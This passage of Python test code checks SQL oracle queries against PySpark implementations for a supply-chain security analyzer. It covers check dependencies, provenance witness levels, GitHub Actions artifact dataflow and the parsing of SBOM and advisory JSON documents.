
@query("check_registry", """SELECT component_id, check_id, result_type FROM (SELECT p_partkey AS component_id, p_size, p_partkey % 4 AS m FROM part) p, LATERAL (SELECT 'mcn_has_size_1' AS check_id, CASE WHEN p_size > 10 THEN 'PASSED' ELSE 'FAILED' END AS result_type
UNION ALL SELECT 'mcn_even_key_1', CASE WHEN p_size <= 10 THEN 'SKIPPED' WHEN m % 2 = 0 THEN 'PASSED' ELSE 'FAILED' END) t""", facts=False)
def check_registry(f: Facts) -> DataFrame:
    reg = checks.Registry()

    @reg.register("mcn_even_key_1", depends_on=(("mcn_has_size_1", checks.PASSED),))
    def even(d: DataFrame) -> DataFrame:
        return d.select("component_id", F.when(F.col("component_id") % 2 == 0, checks.PASSED).otherwise(checks.FAILED).alias("result_type"), F.lit(1.0).alias("confidence"))

    @reg.register("mcn_has_size_1")
    def size(d: DataFrame) -> DataFrame:
        return d.select("component_id", F.when(F.col("p_size") > 10, checks.PASSED).otherwise(checks.FAILED).alias("result_type"), F.lit(0.7).alias("confidence"))

    return reg.evaluate(f.table("part").select(F.col("p_partkey").alias("component_id"), "p_size")).select("component_id", "check_id", "result_type")


@query("witness_level", """WITH a AS (SELECT s_suppkey % 20 AS component_id, 'f' || s_suppkey AS name, md5(CAST(s_suppkey AS VARCHAR)) AS sha256 FROM supplier), s AS (SELECT component_id, name, CASE WHEN component_id % 3 = 0 THEN 'other' ELSE sha256 END AS sha256 FROM a UNION ALL SELECT component_id, 'foreign', 'x' FROM a WHERE component_id % 5 = 0)
SELECT DISTINCT component_id, CASE WHEN component_id % 5 = 0 THEN 'UNKNOWN' WHEN component_id % 3 = 0 THEN 'FAILED' ELSE 'PASSED' END AS result_type FROM a""", facts=False)
def witness_level(f: Facts) -> DataFrame:
    k = F.col("s_suppkey")
    a = f.table("supplier").select((k % 20).alias("component_id"), F.concat(F.lit("f"), k).alias("name"), F.md5(k.cast("string")).alias("sha256"))
    s = a.withColumn("sha256", F.when(F.col("component_id") % 3 == 0, "other").otherwise(F.col("sha256"))).union(a.where("component_id % 5 = 0").select("component_id", F.lit("foreign"), F.lit("x")))
    return checks.witness_level(a, s)


@query("scope_reads", """WITH st AS (SELECT c_custkey % 13 AS scope, 'v' || c_custkey % 3 AS location, c_mktsegment AS value FROM customer), up(scope, outer_scope, distance) AS (SELECT DISTINCT scope, scope, 0 FROM st UNION SELECT scope, scope // 2, 1 FROM st WHERE scope > 0)
SELECT r.scope * 10 + r.l AS read, st.value, min(up.distance) AS distance FROM (SELECT DISTINCT scope, unnest([0, 1, 2]) AS l FROM st) r JOIN up ON up.scope = r.scope JOIN st ON st.scope = up.outer_scope AND st.location = 'v' || r.l GROUP BY 1, 2""", facts=False)
def scope_reads(f: Facts) -> DataFrame:
    k = F.col("c_custkey")
    st = f.table("customer").select((k % 13).alias("scope"), F.concat(F.lit("v"), k % 3).alias("location"), F.col("c_mktsegment").alias("value"))
    s = st.select("scope").distinct()
    up = s.select("scope", F.col("scope").alias("outer"), F.lit(0).alias("distance")).union(s.where("scope > 0").select("scope", F.expr("scope div 2"), F.lit(1)))
    reads = s.select("scope", F.explode(F.array(F.lit(0), F.lit(1), F.lit(2))).alias("l")).select((F.col("scope") * 10 + F.col("l")).alias("read"), "scope", F.concat(F.lit("v"), "l").alias("location"))
    return dataflow.values_in_scope(st, up, reads)


@query("action_effects", """SELECT p_partkey AS node, CASE p_partkey % 3 WHEN 0 THEN 'artifact:a' || p_size WHEN 1 THEN 'dist' || p_size ELSE 'installed:java' END AS location, CASE p_partkey % 3 WHEN 2 THEN CAST(p_size AS VARCHAR) ELSE '' END AS prefix,
CASE p_partkey % 3 WHEN 0 THEN 'dist' || p_size WHEN 1 THEN 'artifact:a' || p_size END AS source FROM part WHERE p_partkey % 4 <> 0""", facts=False)
def action_effects(f: Facts) -> DataFrame:
    k = F.col("p_partkey")
    uses = F.when(k % 4 == 0, "org/unknown@v1").when(k % 3 == 0, "actions/upload-artifact@v4").when(k % 3 == 1, "actions/download-artifact@v4").otherwise("actions/setup-java@v4")
    s = f.table("part").select(k.alias("node"), uses.alias("uses"), F.concat(F.lit("a"), "p_size").alias("name"), F.concat(F.lit("dist"), "p_size").alias("path"), F.col("p_size").cast("string").alias("version"))
    return dataflow.action_effects(s).drop("suffix")


@query("check_scan", """+ f AS (SELECT p_partkey AS id, p_partkey % 5 <> 0 AS repo, p_partkey % 3 = 0 AS tool, p_partkey % 7 = 0 AS trusted, p_partkey % 4 = 0 AS deploys, p_partkey % 2 = 0 AS builds, p_partkey % 6 = 0 AS prov FROM part),
g AS (SELECT *, CASE WHEN repo AND trusted THEN 'PASSED' ELSE 'FAILED' END AS tb FROM f), h AS (SELECT *, CASE WHEN tb = 'PASSED' OR deploys THEN 'PASSED' ELSE 'FAILED' END AS code FROM g)
SELECT id AS component_id, t.check_id, t.result_type FROM h, LATERAL (SELECT 'mcn_version_control_system_1' AS check_id, CASE WHEN repo THEN 'PASSED' ELSE 'FAILED' END AS result_type
UNION ALL SELECT 'mcn_build_tool_1', CASE WHEN NOT repo THEN 'SKIPPED' WHEN tool THEN 'PASSED' ELSE 'FAILED' END
UNION ALL SELECT 'mcn_build_script_1', CASE WHEN repo AND tool THEN 'PASSED' ELSE 'FAILED' END
UNION ALL SELECT 'mcn_trusted_builder_level_three_1', tb UNION ALL SELECT 'mcn_build_as_code_1', code
UNION ALL SELECT 'mcn_build_service_1', CASE WHEN code = 'PASSED' OR builds THEN 'PASSED' ELSE 'FAILED' END
UNION ALL SELECT 'mcn_find_artifact_pipeline_1', CASE WHEN code = 'PASSED' THEN 'FAILED' ELSE 'SKIPPED' END
UNION ALL SELECT 'mcn_provenance_available_1', CASE WHEN prov THEN 'PASSED' ELSE 'FAILED' END
UNION ALL SELECT 'mcn_provenance_verified_1', 'FAILED' UNION ALL SELECT 'mcn_provenance_derived_repo_1', 'FAILED' UNION ALL SELECT 'mcn_provenance_derived_commit_1', 'FAILED'
UNION ALL SELECT 'mcn_provenance_expectation_1', CASE WHEN prov THEN 'UNKNOWN' ELSE 'FAILED' END UNION ALL SELECT 'mcn_provenance_witness_level_one_1', CASE WHEN prov THEN 'UNKNOWN' ELSE 'FAILED' END
UNION ALL SELECT 'mcn_scm_authenticity_1', 'UNKNOWN' UNION ALL SELECT 'mcn_detect_malicious_metadata_1', 'PASSED'
UNION ALL SELECT 'mcn_githubactions_vulnerabilities_1', CASE WHEN repo THEN 'PASSED' ELSE 'SKIPPED' END
UNION ALL SELECT 'mcn_license_1', 'PASSED' UNION ALL SELECT 'mcn_registry_maintainability_1', 'UNKNOWN') t""")
def check_scan(f: Facts) -> DataFrame:
    k = F.col("p_partkey")
    none = F.array().cast("array<string>")
    facts = f.table("part").select(
        k.alias("component_id"),
        F.when(k % 5 != 0, "https://github.com/o/n").alias("repository"),
        F.when(k % 3 == 0, F.array(F.lit("maven"))).otherwise(none).alias("build_tools"),
        F.when(k % 7 == 0, F.array(F.lit("org/builder@v1"))).alias("uses"),
        F.when(k % 4 == 0, F.array(F.lit("mvn deploy"))).alias("deploy_commands"),
        F.when(k % 2 == 0, F.array(F.lit("mvn package"))).alias("build_commands"),
        (k % 6 == 0).alias("provenance"),
    )
    return decisions.evaluate(facts, decisions.built_in(trusted_builders=("org/builder",))).select("component_id", "check_id", "result_type")


#: Nested records by walking whole documents as trees; an index is put behind array keys that were written as a lone object.
_LONE = r"'\.(hashes|externalReferences|components|subject|materials|resolvedDependencies)([.]|$)', '.\1[0]\2', 'g'"
ORACLES["p5_found"] = (
    _ATT
    + r""", docs AS (SELECT 'bom_documents' AS src, bom_num AS rec_id, bom_json AS j FROM bom_documents WHERE json_valid(bom_json) AND json_type(bom_json) = 'OBJECT'
UNION ALL SELECT 'attestations', att_num, j FROM d WHERE json_type(j) = 'OBJECT'),
l AS (SELECT src, rec_id, t.fullkey AS k, json_extract_string(t.value, '$') AS v FROM docs, json_tree(docs.j) t WHERE t.type NOT IN ('OBJECT', 'ARRAY', 'NULL')),
n AS (SELECT src, rec_id, v, regexp_replace(regexp_replace(k, LONE), LONE) AS p FROM l)
SELECT src, rec_id, regexp_extract(p, '^\$\.?(.*?)\.?(hashes|externalReferences)\[(\d+)\]\.(content|url)$', 1) AS parent_path, regexp_extract(p, '(hashes|externalReferences)\[\d+\]\.(content|url)$', 1) AS child_kind,
CAST(regexp_extract(p, '\[(\d+)\]\.(content|url)$', 1) AS BIGINT) AS child_pos, v AS child_value FROM n WHERE src = 'bom_documents' AND regexp_matches(p, '(^\$\.|\.)(hashes\[\d+\]\.content|externalReferences\[\d+\]\.url)$')
UNION ALL SELECT src, rec_id, regexp_extract(p, '^\$\.?(.*?)\.?digest\.([^.]+)$', 1), 'digest.' || regexp_extract(p, 'digest\.([^.]+)$', 1), 0, v FROM n WHERE src = 'attestations' AND regexp_matches(p, '(^\$\.|\.)digest\.[^.]+$')
UNION ALL SELECT 'advisories', adv_num, 'affected[' || (i - 1) || ']', 'ranges', CAST(m - 1 AS BIGINT), r.type FROM (SELECT adv_num, i, unnest(a.ranges) AS r, generate_subscripts(a.ranges, 1) AS m FROM (SELECT adv_num, unnest(affected) AS a, generate_subscripts(affected, 1) AS i FROM advisories)) WHERE r.type IS NOT NULL"""
).replace("LONE", _LONE)

ORACLES["p5_components"] = (
    r"""WITH t AS (SELECT bom_num AS rec_id, regexp_replace(regexp_replace(regexp_replace(t.fullkey, LONE), LONE), '^\$\.', '') AS path, t.value AS v FROM (SELECT bom_num, bom_json FROM bom_documents WHERE json_valid(bom_json) AND json_type(bom_json) = 'OBJECT') b, json_tree(b.bom_json) t WHERE t.type = 'OBJECT'),
c AS (SELECT rec_id, path, v, regexp_extract(path, '^(.*?)\.?components\[\d+\]$', 1) AS parent_path, CAST(regexp_extract(path, 'components\[(\d+)\]$', 1) AS INTEGER) AS pos FROM t WHERE regexp_matches(path, '(^|\.)components\[\d+\]$'))
SELECT rec_id, path, CASE WHEN regexp_matches(parent_path, 'components\[\d+\]$') THEN parent_path ELSE '' END AS parent_row, parent_path, pos, json_extract_string(v, '$."bom-ref"') AS "bom-ref", json_extract_string(v, '$.type') AS type,
json_extract_string(v, '$.group') AS "group", json_extract_string(v, '$.name') AS name, json_extract_string(v, '$.version') AS version, json_extract_string(v, '$.purl') AS purl FROM c"""
).replace("LONE", _LONE)
ORACLES["p5_ranges"] = """SELECT adv_num AS rec_id, 'affected[' || (i - 1) || '].ranges[' || (m - 1) || ']' AS path, 'affected[' || (i - 1) || ']' AS parent_row, 'affected[' || (i - 1) || ']' AS parent_path, CAST(m - 1 AS INTEGER) AS pos, r.type AS type
FROM (SELECT adv_num, i, unnest(a.ranges) AS r, generate_subscripts(a.ranges, 1) AS m FROM (SELECT adv_num, unnest(affected) AS a, generate_subscripts(affected, 1) AS i FROM advisories)) WHERE r IS NOT NULL"""
ORACLES["p5_unreadable"] = _ATT + r""", b0 AS (SELECT bom_num, bom_json, regexp_replace(bom_json, '^[\s\x{feff}]+|\s+$', '', 'g') AS t FROM bom_documents)
SELECT 'bom_documents' AS src, bom_num AS rec_id, CASE WHEN bom_json IS NULL THEN 'null' WHEN t = '' THEN 'empty' ELSE 'broken' END AS reason FROM b0 WHERE bom_json IS NULL OR NOT coalesce(json_valid(t) AND TRY(json_type(t)) = 'OBJECT', false)
UNION ALL SELECT 'attestations', att_num, CASE WHEN payload IS NULL THEN 'null' WHEN trim(payload, ' ' || chr(10) || chr(9) || chr(13)) = '' THEN 'empty' ELSE 'broken' END FROM attestations WHERE att_num NOT IN (SELECT att_num FROM d WHERE json_type(j) = 'OBJECT')"""
ORACLES["p4_lifespans"] = """
WITH l AS (SELECT feed, file_seq, line FROM feed_lines WHERE json_valid(line) AND json_type(line) = 'OBJECT'),
e AS (SELECT feed, file_seq, k, json_extract(line, '$."' || k || '"') AS v FROM (SELECT *, unnest(json_keys(line)) AS k FROM l)),
t AS (SELECT DISTINCT feed, file_seq, k, CASE json_type(v) WHEN 'VARCHAR' THEN 'string' WHEN 'BOOLEAN' THEN 'boolean' WHEN 'ARRAY' THEN 'array' WHEN 'OBJECT' THEN 'object' ELSE 'number' END AS ty FROM e WHERE json_type(v) <> 'NULL'),
files AS (SELECT feed, file_seq, row_number() OVER (PARTITION BY feed ORDER BY file_seq) AS n FROM (SELECT DISTINCT feed, file_seq FROM feed_lines)),
i AS (SELECT t.*, n - row_number() OVER (PARTITION BY feed, k, ty ORDER BY n) AS island FROM t JOIN files USING (feed, file_seq))
SELECT feed AS producer, k AS field, ty AS kind, min(file_seq) AS first_seq, max(file_seq) AS last_seq, count(*) AS files FROM i GROUP BY feed, k, ty, island"""
